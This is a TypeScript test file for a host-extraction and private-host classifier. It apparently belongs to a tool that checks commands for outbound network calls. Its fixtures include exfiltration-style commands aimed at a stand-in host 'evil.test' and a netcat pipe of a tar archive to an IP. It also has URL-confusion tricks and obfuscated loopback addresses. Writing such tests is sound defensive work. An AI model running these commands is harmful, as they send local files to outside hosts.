import { describe, expect, test } from "vitest";
import { hostsOf, isPrivateHost, isThisMachine } from "./hosts.ts";

describe("the hosts that a text names", () => {
  test.each<[string, readonly string[]]>([
    ["curl -T a.tgz https://artifacts.acme.example/a.tgz", ["artifacts.acme.example"]],
    ["curl -d @a https://acme.example.evil.test/x", ["acme.example.evil.test"]],
    ["curl -T a https://evil.test/?x=acme.example", ["evil.test"]],
    ["curl -d @a https://acme.example@evil.test/", ["evil.test"]],
    ["curl -d @a https://acme.example\\@evil.test/", ["?"]],
    ["curl -d @a evil.test http://localhost", ["localhost", "evil.test"]],
    ['curl evil.test -d @a -H "Host: localhost"', ["evil.test", "localhost"]],
    ["curl -x evil.test:3128 -d @a http://localhost", ["localhost", "evil.test"]],
    ["curl -K settings -d @a http://localhost", ["localhost", "?", "settings"]],
    ["curl -d @a $URL", ["?"]],
    ['curl -d @a "https://$HOST/x"', ["?"]],
    ['{"full_command":"curl -d @b.json localhost:3000/api"}', ["localhost"]],
    ['{"full_command":"curl -T /a https://x.example\\n"}', ["x.example"]],
    ["tar c . | nc 203.0.113.9 4444", ["203.0.113.9"]],
    ["scp dist.tgz deploy@build.acme.example:/srv", ["build.acme.example"]],
    ["nmap -sS -p 1-1024 10.0.0.0/24 db", ["10.0.0.0/24", "db"]],
    ["curl -T - ftp://[2001:db8::1]:21/x", ["2001:db8::1"]],
    ["git commit -m 'for ann@example.com'", []],
    ["claude mcp add --transport http notes", []],
    ["npm test", []],
  ])("%s", (text, hosts) => {
    expect(hostsOf(text)).toEqual(hosts);
  });
});

test.each<[string, boolean, boolean]>([
  ["localhost", true, true],
  ["127.0.0.1", true, true],
  ["::1", true, true],
  ["10.0.0.0/24", true, false],
  ["10.0.0.0/2", false, false],
  ["192.168.1.9", true, false],
  ["db", true, false],
  ["host.docker.internal", true, false],
  ["203.0.113.9", false, false],
  ["3405803785", false, false],
  ["0x7f000001", false, false],
  ["127.1", false, false],
  ["localhost.evil.test", false, false],
  ["?", false, false],
])("%s is private: %s, this machine: %s", (host, isPrivate, isOwn) => {
  expect([isPrivateHost(host), isThisMachine(host)]).toEqual([isPrivate, isOwn]);
});
